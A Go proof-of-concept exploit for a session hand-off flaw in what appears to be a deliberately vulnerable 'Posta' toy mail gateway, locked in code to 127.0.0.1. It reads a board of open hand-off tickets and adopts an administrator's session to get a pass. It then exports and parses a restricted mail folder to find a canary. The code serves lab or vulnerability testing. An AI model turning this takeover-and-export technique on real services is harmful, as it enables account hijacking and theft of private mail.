// Command port is a proof of concept for the hand-off flaw of the Posta toy
// gateway. It talks to 127.0.0.1 only.
//
// Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a Posta here.
package main

import (
	"bytes"
	"crypto/hmac"
	"crypto/md5"
	"crypto/rand"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"text/tabwriter"
	"time"
)

const (
	loopback  = "127.0.0.1"
	banner    = "posta-toy/"
	formType  = "application/x-www-form-urlencoded"
	bodyLimit = 1 << 20
	timeout   = 15 * time.Second
)

var (
	errRefused = errors.New("refused")

	canaryRE   = regexp.MustCompile(`posta canary [0-9A-Za-z-]+`)
	fromLineRE = regexp.MustCompile(`(?m)^From .*\n`)
)

func refusef(format string, args ...any) error {
	return fmt.Errorf("%w: %s", errRefused, fmt.Sprintf(format, args...))
}

// randomHex returns n random bytes in hexadecimal.
func randomHex(n int) string {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		panic(err) // no sensible way to go on without randomness
	}
	return hex.EncodeToString(b)
}

// escape percent-encodes s; unlike url.QueryEscape it writes a space as %20.
func escape(s string) string {
	return strings.ReplaceAll(url.QueryEscape(s), "+", "%20")
}

// escapePath is escape, but leaves slashes alone.
func escapePath(s string) string {
	return strings.ReplaceAll(escape(s), "%2F", "/")
}

// params is an ordered list of alternating names and values.
type params []string

func (p params) join(esc func(string) string) string {
	var b strings.Builder
	for i := 0; i+1 < len(p); i += 2 {
		if i > 0 {
			b.WriteByte('&')
		}
		b.WriteString(esc(p[i]) + "=" + esc(p[i+1]))
	}
	return b.String()
}

func (p params) query() string { return "?" + p.join(escape) }
func (p params) form() []byte  { return []byte(p.join(url.QueryEscape)) }

// sessionID derives the name of the session from the ticket.
func sessionID(ticket string) string {
	sum := md5.Sum([]byte(ticket))
	return "lnk-" + strings.ToLower(base64.RawURLEncoding.EncodeToString(sum[:]))
}

// proof signs a nonce with the ticket.
func proof(ticket, nonce string) string {
	mac := hmac.New(sha512.New384, []byte(ticket))
	io.WriteString(mac, "transfer:"+nonce)
	return hex.EncodeToString(mac.Sum(nil))[:39]
}

func freshNonce() string {
	return time.Now().UTC().Format("20060102T150405Z") + "." + randomHex(6)
}

// client talks to one gateway. After adopt it holds a pass.
type client struct {
	addr string
	http *http.Client
	seq  int
	pass string
}

func newClient(host string, port int) (*client, error) {
	switch strings.ToLower(strings.TrimSpace(host)) {
	case loopback, "localhost":
	default:
		return nil, refusef("%s: only a Posta on %s is allowed", host, loopback)
	}
	if port < 1 || port > 65535 {
		return nil, refusef("%d: no such port", port)
	}
	return &client{
		addr: net.JoinHostPort(loopback, strconv.Itoa(port)),
		http: &http.Client{
			Timeout: timeout,
			// No proxy, no connection reuse, no redirects: every request
			// goes to the checked address and nowhere else.
			Transport: &http.Transport{
				DisableKeepAlives:  true,
				DisableCompression: true,
			},
			CheckRedirect: func(*http.Request, []*http.Request) error {
				return http.ErrUseLastResponse
			},
		},
	}, nil
}

func (c *client) requestID() string {
	c.seq++
	return fmt.Sprintf("req-%03d-%s", c.seq, randomHex(5))
}

// headers returns those that every request but the first one carries.
func (c *client) headers() http.Header {
	h := http.Header{}
	h.Set("User-Agent", "handoff-check/0.9")
	h.Set("X-Posta-Client", "widget")
	h.Set("X-Request-Id", c.requestID())
	h.Set("Accept-Language", "fr-CA")
	return h
}

func (c *client) passHeaders() http.Header {
	h := c.headers()
	h.Set("Authorization", "Badge "+c.pass)
	return h
}

// send makes one request and returns status and body, whatever the status.
func (c *client) send(method, target string, h http.Header, body []byte) (int, []byte, error) {
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, "http://"+c.addr+target, rd)
	if err != nil {
		return 0, nil, err
	}
	req.Header = h
	resp, err := c.http.Do(req)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	if !strings.HasPrefix(resp.Header.Get("Server"), banner) {
		return 0, nil, refusef("%s does not answer as Posta", c.addr)
	}
	data, err := io.ReadAll(io.LimitReader(resp.Body, bodyLimit+1))
	if err != nil {
		return 0, nil, fmt.Errorf("%s %s: %w", method, target, err)
	}
	if len(data) > bodyLimit {
		return 0, nil, fmt.Errorf("%s %s: the answer is too long", method, target)
	}
	return resp.StatusCode, data, nil
}

// fetch is send, but takes a status of 400 or more for an error.
func (c *client) fetch(method, target string, h http.Header, body []byte) ([]byte, error) {
	status, data, err := c.send(method, target, h, body)
	if err != nil {
		return nil, err
	}
	if status >= 400 {
		return nil, fmt.Errorf("%s %s: status %d %.80s", method, target, status, data)
	}
	return data, nil
}

// call is fetch, and decodes the JSON of the answer into out.
func (c *client) call(method, target string, h http.Header, body []byte, out any) error {
	data, err := c.fetch(method, target, h, body)
	if err != nil {
		return err
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	if err := dec.Decode(out); err != nil {
		return fmt.Errorf("%s %s: bad JSON: %w", method, target, err)
	}
	return nil
}

// probe makes sure that the gateway is the toy.
func (c *client) probe() (waiting any, err error) {
	var out struct {
		Toy     any `json:"toy"`
		Waiting any `json:"waiting"`
	}
	q := params{"probe", "ping", "id", c.requestID()}
	// An empty User-Agent keeps net/http from adding its own.
	h := http.Header{"User-Agent": {""}}
	if err := c.call(http.MethodGet, "/status"+q.query(), h, nil, &out); err != nil {
		return nil, err
	}
	if out.Toy != true {
		return nil, refusef("this Posta is not the toy")
	}
	if out.Waiting == nil {
		return 0, nil
	}
	return out.Waiting, nil
}

// handoff is an entry of the board.
type handoff struct {
	Role   any    `json:"role"`
	Ticket string `json:"ticket"`
	Since  any    `json:"since"` // a number or a string that sorts by time
}

func (h handoff) before(o handoff) bool {
	a, aok := h.Since.(json.Number)
	b, bok := o.Since.(json.Number)
	if aok && bok {
		x, _ := a.Float64()
		y, _ := b.Float64()
		return x < y
	}
	return fmt.Sprint(h.Since) < fmt.Sprint(o.Since)
}

func (c *client) board() ([]handoff, error) {
	var out struct {
		Waiting []handoff `json:"waiting"`
	}
	q := params{"audience", "personnel", "id", c.requestID()}
	err := c.call(http.MethodGet, "/board"+q.query(), c.headers(), nil, &out)
	return out.Waiting, err
}

// oldestTicket picks the hand-off of that role which has waited longest.
func oldestTicket(board []handoff, role string) (string, error) {
	var best *handoff
	for i := range board {
		if board[i].Role == role && (best == nil || board[i].before(*best)) {
			best = &board[i]
		}
	}
	if best == nil {
		return "", fmt.Errorf("no %s has a hand-off open", role)
	}
	if best.Ticket == "" {
		return "", errors.New("the hand-off has no ticket")
	}
	return best.Ticket, nil
}

// adopt takes the hand-off over and keeps the pass that it yields.
func (c *client) adopt(ticket string) (account any, err error) {
	var out struct {
		Pass string `json:"pass"`
		Who  any    `json:"who"`
	}
	form := params{
		"ticket", ticket,
		"session", sessionID(ticket),
		"scope", "campus",
		"mode", "adopt",
		"durable", "1",
		"reason", "rebalancing",
	}
	nonce := freshNonce()
	h := c.headers()
	h.Set("X-Posta-Nonce", nonce)
	h.Set("X-Posta-Signature", proof(ticket, nonce))
	h.Set("Content-Type", formType)
	if err := c.call(http.MethodPost, "/door/handoff", h, form.form(), &out); err != nil {
		return nil, err
	}
	if out.Pass == "" {
		return nil, errors.New("the hand-off gave no pass")
	}
	c.pass = out.Pass
	if out.Who == nil {
		return "?", nil
	}
	return out.Who, nil
}

type folder struct {
	Name  string  `json:"name"`
	Count float64 `json:"count"`
}

func (c *client) folders() ([]folder, error) {
	var out struct {
		Folders []folder `json:"folders"`
	}
	q := params{"view", "brief", "id", c.requestID()}
	h := c.passHeaders()
	h.Set("Accept", "application/vnd.posta.register+json")
	err := c.call(http.MethodGet, "/classic/folders"+q.query(), h, nil, &out)
	return out.Folders, err
}

// pickFolder returns the wanted folder, or else the fullest.
func pickFolder(folders []folder, wanted string) (string, error) {
	if len(folders) == 0 {
		return "", errors.New("the account has no folders")
	}
	best := folders[0]
	for _, f := range folders {
		if f.Name == wanted {
			return wanted, nil
		}
		if f.Count > best.Count {
			best = f
		}
	}
	return best.Name, nil
}

func (c *client) saveDraft(text string) (string, error) {
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	if err := w.SetBoundary("ContentEdge" + randomHex(8)); err != nil {
		return "", err
	}
	if err := w.WriteField("passage", text); err != nil {
		return "", err
	}
	if err := w.Close(); err != nil {
		return "", err
	}
	h := c.passHeaders()
	h.Set("Content-Type", w.FormDataContentType())
	h.Set("X-Posta-Priority", "regular")
	var out struct {
		Draft string `json:"draft"`
	}
	if err := c.call(http.MethodPost, "/drafts", h, body.Bytes(), &out); err != nil {
		return "", err
	}
	if out.Draft == "" {
		return "", errors.New("the draft has no name")
	}
	return out.Draft, nil
}

// countMessages returns how many messages the folder lists.
func (c *client) countMessages(folder string) (int, error) {
	var out struct {
		Messages []json.RawMessage `json:"messages"`
	}
	q := params{"folder", folder, "order", "alphabetical", "channel", "socket"}
	err := c.call("QUERY", "/messages"+q.query(), c.passHeaders(), nil, &out)
	return len(out.Messages), err
}

// orderExport returns the job and the number of mails that it announces.
func (c *client) orderExport(folder string) (job string, mails int, err error) {
	order, err := json.Marshal(struct {
		Folder  string `json:"folder"`
		Depth   string `json:"depth"`
		Consent string `json:"consent"`
		Format  string `json:"format"`
	}{folder, "flat", "issued", "mh"})
	if err != nil {
		return "", 0, err
	}
	h := c.passHeaders()
	h.Set("Content-Type", "application/json")
	var out struct {
		Job   string `json:"job"`
		Mails *int   `json:"mails"`
	}
	if err := c.call(http.MethodPost, "/governance/export", h, order, &out); err != nil {
		return "", 0, err
	}
	if out.Job == "" || out.Mails == nil {
		return "", 0, errors.New("the answer to the export order is incomplete")
	}
	return out.Job, *out.Mails, nil
}

// download fetches the export; here the pass travels in a cookie.
func (c *client) download(job string) (string, error) {
	q := params{"source", "repository", "id", c.requestID()}
	h := c.headers()
	h.Set("Cookie", "mailsid="+c.pass)
	data, err := c.fetch(http.MethodGet, "/export/"+escapePath(job)+q.query(), h, nil)
	return strings.ToValidUTF8(string(data), "\uFFFD"), err
}

func (c *client) purge(mail string) (any, error) {
	out := struct {
		Purged any `json:"purged"`
	}{0}
	q := params{"acting", "owner", "commit", "lazy"}
	err := c.call(http.MethodPut, "/purge/"+escapePath(mail)+q.query(), c.passHeaders(), nil, &out)
	return out.Purged, err
}

// leave closes the session and tells whether the gateway agreed.
func (c *client) leave() (bool, error) {
	form := params{"outcome", "released", "id", c.requestID()}
	h := c.passHeaders()
	h.Set("Content-Type", formType)
	status, _, err := c.send(http.MethodPost, "/close", h, form.form())
	return status < 400, err
}

type mail struct {
	subject, body string
}

func parseExport(text string) []mail {
	var mails []mail
	for _, block := range fromLineRE.Split(text, -1)[1:] {
		head, body, _ := strings.Cut(block, "\n\n")
		m := mail{body: strings.TrimSpace(body)}
		for _, line := range strings.Split(head, "\n") {
			name, value, ok := strings.Cut(strings.TrimSuffix(line, "\r"), ": ")
			if ok && strings.EqualFold(name, "subject") {
				m.subject = value
			}
		}
		mails = append(mails, m)
	}
	return mails
}

func findCanary(mails []mail) string {
	for _, m := range mails {
		if s := canaryRE.FindString(m.body); s != "" {
			return s
		}
	}
	return ""
}

type verdict struct {
	Waiting  any     `json:"waiting"`
	Account  any     `json:"account"`
	Folder   string  `json:"folder"`
	Subjects string  `json:"subjects"`
	Purged   any     `json:"purged"`
	Closed   bool    `json:"closed"`
	Canary   *string `json:"canary"`
}

func (v *verdict) writeJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(v)
}

func (v *verdict) writeText(w io.Writer) error {
	canary := "none"
	if v.Canary != nil {
		canary = *v.Canary
	}
	tw := tabwriter.NewWriter(w, 0, 0, 2, ' ', 0)
	fmt.Fprintf(tw, "waiting\t%v\n", v.Waiting)
	fmt.Fprintf(tw, "account\t%v\n", v.Account)
	fmt.Fprintf(tw, "folder\t%s\n", v.Folder)
	fmt.Fprintf(tw, "subjects\t%s\n", v.Subjects)
	fmt.Fprintf(tw, "purged\t%v\n", v.Purged)
	fmt.Fprintf(tw, "closed\t%t\n", v.Closed)
	fmt.Fprintf(tw, "canary\t%s\n", canary)
	return tw.Flush()
}

type options struct {
	host, role, folder string
	port               int
	keep, json         bool
}

func attack(o options) (*verdict, error) {
	c, err := newClient(o.host, o.port)
	if err != nil {
		return nil, err
	}
	var v verdict
	if v.Waiting, err = c.probe(); err != nil {
		return nil, err
	}
	board, err := c.board()
	if err != nil {
		return nil, err
	}
	ticket, err := oldestTicket(board, o.role)
	if err != nil {
		return nil, err
	}
	if v.Account, err = c.adopt(ticket); err != nil {
		return nil, err
	}
	folders, err := c.folders()
	if err != nil {
		return nil, err
	}
	if v.Folder, err = pickFolder(folders, o.folder); err != nil {
		return nil, err
	}
	draft, err := c.saveDraft("Posta hand-off test")
	if err != nil {
		return nil, err
	}
	listed, err := c.countMessages(v.Folder)
	if err != nil {
		return nil, err
	}
	job, announced, err := c.orderExport(v.Folder)
	if err != nil {
		return nil, err
	}
	text, err := c.download(job)
	if err != nil {
		return nil, err
	}
	mails := parseExport(text)
	if len(mails) < announced || len(mails) < listed {
		return nil, errors.New("the export is shorter than the folder")
	}
	v.Purged = 0
	if !o.keep {
		if v.Purged, err = c.purge(draft); err != nil {
			return nil, err
		}
	}
	if v.Closed, err = c.leave(); err != nil {
		return nil, err
	}
	subjects := make([]string, len(mails))
	for i, m := range mails {
		subjects[i] = m.subject
	}
	v.Subjects = strings.Join(subjects, "; ")
	if s := findCanary(mails); s != "" {
		v.Canary = &s
	}
	return &v, nil
}

func run() int {
	var o options
	flag.StringVar(&o.host, "host", loopback, "127.0.0.1 only")
	flag.IntVar(&o.port, "port", 0, "where Posta listens (required)")
	flag.StringVar(&o.role, "role", "administrator", "whose hand-off")
	flag.StringVar(&o.folder, "folder", "restricted", "what to export")
	flag.BoolVar(&o.keep, "keep", false, "leave the draft behind")
	flag.BoolVar(&o.json, "json", false, "print one JSON object")
	flag.Parse()

	v, err := attack(o)
	switch {
	case errors.Is(err, errRefused):
		fmt.Fprintln(os.Stderr, err)
		return 2
	case err != nil:
		fmt.Fprintln(os.Stderr, "failed:", err)
		return 1
	}
	write := v.writeText
	if o.json {
		write = v.writeJSON
	}
	if err := write(os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "failed:", err)
		return 1
	}
	if v.Canary == nil {
		return 1
	}
	return 0
}

func main() {
	os.Exit(run())
}
